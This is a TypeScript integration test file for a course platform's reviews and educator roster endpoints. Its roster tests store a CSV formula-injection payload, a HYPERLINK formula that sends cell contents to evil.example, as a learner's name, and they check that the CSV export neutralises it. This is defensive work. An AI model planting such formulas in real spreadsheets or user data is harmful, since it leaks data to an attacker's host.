import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { createSignedInUser, type SignedInUser } from '../../support/factories.js';
import { get, patch } from '../../support/http.js';
import { UNKNOWN_ID } from '../../support/test-data.js';
import {
  drop,
  enrol,
  firstClassTookPlace,
  getCourse,
  makeCourse,
  makeEducator,
  makePublishedCourse,
  makeSession,
  putReview,
  queryRows,
  useCoursesApp,
} from '../../support/courses.js';

const ctx = useCoursesApp();

const reviewCount = async (courseId: string) =>
  Number((await queryRows<{ n: number }>(ctx.app, sql`select count(*)::int as n from review where course_id = ${courseId}`))[0].n);

describe('reviews', () => {
  let courseId: string;
  let sessionId: string;
  let alice: SignedInUser;
  let bob: SignedInUser;
  beforeAll(async () => {
    ({ courseId, sessionId } = await makePublishedCourse(ctx.app, ctx.educator, { session: { capacity: 2 } }));
    alice = await createSignedInUser(ctx.app, { firstName: 'Alice', lastName: 'Smith' });
    bob = await createSignedInUser(ctx.app, { firstName: 'Bob', lastName: 'Jones' });
    await enrol(ctx.app, alice, courseId, sessionId);
    await enrol(ctx.app, bob, courseId, sessionId);
  });

  it('a learner who never enrolled answers 403, and may not review', async () => {
    const stranger = await createSignedInUser(ctx.app);
    expect((await getCourse(ctx.app, stranger, courseId)).json().canReview).toBe(false);
    const res = await putReview(ctx.app, stranger, courseId, { rating: 5, text: 'Great' });
    expect(res.statusCode).toBe(403);
    expect(await reviewCount(courseId)).toBe(0);
  });

  it('a waitlisted or dropped learner answers 403', async () => {
    const waiting = await createSignedInUser(ctx.app);
    expect((await enrol(ctx.app, waiting, courseId, sessionId)).json().enrolment.status).toBe('waitlisted');
    expect((await putReview(ctx.app, waiting, courseId, { rating: 4 })).statusCode).toBe(403);
    expect((await drop(ctx.app, waiting, courseId, sessionId)).statusCode).toBe(200);
    expect((await putReview(ctx.app, waiting, courseId, { rating: 4 })).statusCode).toBe(403);
    expect(await reviewCount(courseId)).toBe(0);
  });

  it('the educator of the course answers 403', async () => {
    const res = await putReview(ctx.app, ctx.educator, courseId, { rating: 5, text: 'My own course is the best' });
    expect(res.statusCode).toBe(403);
    expect((await getCourse(ctx.app, ctx.educator, courseId)).json().canReview).toBe(false);
    expect(await reviewCount(courseId)).toBe(0);
  });

  it.each([[0], [6], [-1], [3.5]])('a rating of %s answers 400 naming rating', async (rating) => {
    const res = await putReview(ctx.app, alice, courseId, { rating, text: 'x' });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.fields.rating).toMatch(/between 1 and 5|whole number/);
    expect(await reviewCount(courseId)).toBe(0);
  });

  it('an enrolled learner whose first class has not taken place yet answers 409 saying from when', async () => {
    const before = (await getCourse(ctx.app, alice, courseId)).json();
    expect(before.canReview).toBe(false);
    const firstClass = before.sessions[0].classTimes[0].startsAt;
    expect(before.reviewOpensAt).toBe(firstClass);
    const res = await putReview(ctx.app, alice, courseId, { rating: 5, text: 'Can not wait!' });
    expect(res.statusCode, res.body).toBe(409);
    expect(res.json().error).toMatchObject({
      code: 'review_too_early',
      message: expect.stringMatching(/^You can review this course once your first class has taken place \(from .+ UTC\)$/),
    });
    expect(await reviewCount(courseId)).toBe(0);
    // Someone else sees no opening date (they are not enrolled).
    expect((await getCourse(ctx.app, await createSignedInUser(ctx.app), courseId)).json().reviewOpensAt).toBeNull();
    await firstClassTookPlace(ctx.app, courseId);
    const after = (await getCourse(ctx.app, alice, courseId)).json();
    expect(after.canReview).toBe(true);
  });

  it('an active learner reviews; a second PUT edits the same review; the course shows average and count', async () => {
    expect((await getCourse(ctx.app, alice, courseId)).json().canReview).toBe(true);
    const first = await putReview(ctx.app, alice, courseId, { rating: 2, text: 'Too fast for me' });
    expect(first.statusCode, first.body).toBe(200);
    const second = await putReview(ctx.app, alice, courseId, { rating: 4, text: 'Better after the second class' });
    expect(second.statusCode).toBe(200);
    expect(await reviewCount(courseId)).toBe(1);
    expect((await putReview(ctx.app, bob, courseId, { rating: 5, text: 'Loved it' })).statusCode).toBe(200);
    expect(await reviewCount(courseId)).toBe(2);

    const view = (await getCourse(ctx.app, alice, courseId)).json();
    expect(view.ratingAvg).toBeCloseTo(4.5);
    expect(view.ratingCount).toBe(2);
    expect(view.educator).toMatchObject({ ratingCount: 2 });
    expect(view.educator.ratingAvg).toBeCloseTo(4.5);
    const mine = view.reviews.find((r: { mine: boolean }) => r.mine);
    expect(mine).toMatchObject({ rating: 4, text: 'Better after the second class', authorName: 'Alice S.' });
    expect(view.reviews).toHaveLength(2);

    const profile = (await get(ctx.app, `/api/educators/${ctx.educator.id}`, { cookie: alice.cookie })).json();
    expect(profile.ratingCount).toBe(2);
    expect(profile.ratingAvg).toBeCloseTo(4.5);
  });

  it('a learner whose enrolment is completed may review', async () => {
    const done = await createSignedInUser(ctx.app);
    const other = await makePublishedCourse(ctx.app, ctx.educator);
    await enrol(ctx.app, done, other.courseId, other.sessionId);
    await ctx.app.database.db.execute(
      sql`update enrolment set status = 'completed' where learner_id = ${done.id} and session_id = ${other.sessionId}`,
    );
    expect((await getCourse(ctx.app, done, other.courseId)).json().canReview).toBe(true);
    expect((await putReview(ctx.app, done, other.courseId, { rating: 3, text: 'Solid' })).statusCode).toBe(200);
    expect((await getCourse(ctx.app, done, other.courseId)).json()).toMatchObject({ ratingAvg: 3, ratingCount: 1 });
  });

  it('a draft course and an unknown course answer 404', async () => {
    const draft = await makeCourse(ctx.app, ctx.educator);
    expect((await putReview(ctx.app, alice, draft, { rating: 5 })).statusCode).toBe(404);
    expect((await putReview(ctx.app, alice, UNKNOWN_ID, { rating: 5 })).statusCode).toBe(404);
  });
});

async function named(user: SignedInUser, firstName: string, lastName: string): Promise<SignedInUser> {
  const res = await patch(ctx.app, `/api/users/${user.id}`, { firstName, lastName }, { cookie: user.cookie });
  expect(res.statusCode, res.body).toBe(200);
  return { ...user, firstName, lastName };
}

describe('roster', () => {
  let courseId: string;
  let sessionId: string;
  let secondSession: string;
  let hacker: SignedInUser;
  let plain: SignedInUser;
  let waiting: SignedInUser;
  beforeAll(async () => {
    ({ courseId, sessionId } = await makePublishedCourse(ctx.app, ctx.educator, {
      course: { title: 'Ink & Wash: "Basics"' },
      session: { capacity: 2 },
    }));
    secondSession = await makeSession(ctx.app, ctx.educator, courseId, { startsOn: '2099-01-05', endsOn: '2099-02-05' });
    // The names are set after sign-up (a link in a first name would confuse the helper
    // that follows the verification email's first link).
    hacker = await named(await createSignedInUser(ctx.app), '=HYPERLINK("https://evil.example/?x="&A1,"Click")', 'Smith, Jr.');
    plain = await createSignedInUser(ctx.app, { firstName: 'Plain', lastName: 'Learner' });
    waiting = await named(await createSignedInUser(ctx.app), '+SUM(1', '2)');
    await enrol(ctx.app, hacker, courseId, sessionId);
    await enrol(ctx.app, plain, courseId, sessionId);
    await enrol(ctx.app, waiting, courseId, sessionId);
    await enrol(ctx.app, plain, courseId, secondSession);
  });

  it('the educator sees name, email, status and date of every enrolment, per session', async () => {
    const res = await get(ctx.app, `/api/courses/${courseId}/roster`, { cookie: ctx.educator.cookie });
    expect(res.statusCode, res.body).toBe(200);
    const rows = res.json().rows;
    expect(rows).toHaveLength(4);
    expect(rows[0]).toEqual({
      enrolmentId: expect.any(String),
      sessionId,
      sessionStartsOn: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
      // The roster's "Message" link opens the mailbox thread with this learner.
      learnerId: hacker.id,
      learnerName: `${hacker.firstName} ${hacker.lastName}`,
      learnerEmail: hacker.email,
      // Their own seat (no learner profile of a family account, ADR 0074).
      learnerProfileId: null,
      learnerAge: null,
      contactName: null,
      notes: null,
      status: 'active',
      enrolledAt: expect.any(String),
      payment: { status: 'free', label: 'Free', paidInstallments: null, installments: null },
      waitlistPosition: null,
      offerExpiresAt: null,
    });
    expect(rows.map((r: { learnerEmail: string; status: string; sessionId: string }) => [r.sessionId, r.learnerEmail, r.status])).toEqual([
      [sessionId, hacker.email, 'active'],
      [sessionId, plain.email, 'active'],
      [sessionId, waiting.email, 'waitlisted'],
      [secondSession, plain.email, 'active'],
    ]);
    // The line: the waitlisted learner's place in it.
    expect(rows.find((r: { learnerEmail: string }) => r.learnerEmail === waiting.email).waitlistPosition).toBe(1);
    for (const r of rows) expect(Number.isNaN(Date.parse(r.enrolledAt))).toBe(false);
  });

  it('the CSV has a header and one quoted line per enrolment, with formulas neutralised', async () => {
    const res = await get(ctx.app, `/api/courses/${courseId}/roster.csv`, { cookie: ctx.educator.cookie });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe('attachment; filename="ink-wash-basics-roster.csv"');
    const lines = res.body.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe(
      '"Session start","Name","Email","Status","Payment","Enrolled at","Waitlist place","Offer held until","Age","Contact"',
    );
    expect(lines).toHaveLength(1 + 4);
    // Every field is quoted; embedded quotes are doubled; the comma stays inside its field.
    for (const line of lines) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*"){9}$/);
    const hackerLine = lines.find((l) => l.includes(hacker.email))!;
    const nameCell = hackerLine.split('","')[1];
    expect(nameCell).toBe(`'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") Smith, Jr.`);
    expect(hackerLine).not.toMatch(/(^|,)"=/);
    const waitingLine = lines.find((l) => l.includes(waiting.email))!;
    expect(waitingLine.split('","')[1]).toBe("'+SUM(1 2)");
    expect(waitingLine).toContain('"waitlisted"');
  });

  it('another educator and a learner of the course answer 403 (JSON and CSV)', async () => {
    const other = await makeEducator(ctx.app);
    for (const who of [other, plain]) {
      expect((await get(ctx.app, `/api/courses/${courseId}/roster`, { cookie: who.cookie })).statusCode).toBe(403);
      const csv = await get(ctx.app, `/api/courses/${courseId}/roster.csv`, { cookie: who.cookie });
      expect(csv.statusCode).toBe(403);
      expect(csv.body).not.toContain(hacker.email);
    }
    expect((await get(ctx.app, `/api/courses/${courseId}/roster`)).statusCode).toBe(401);
  });
});
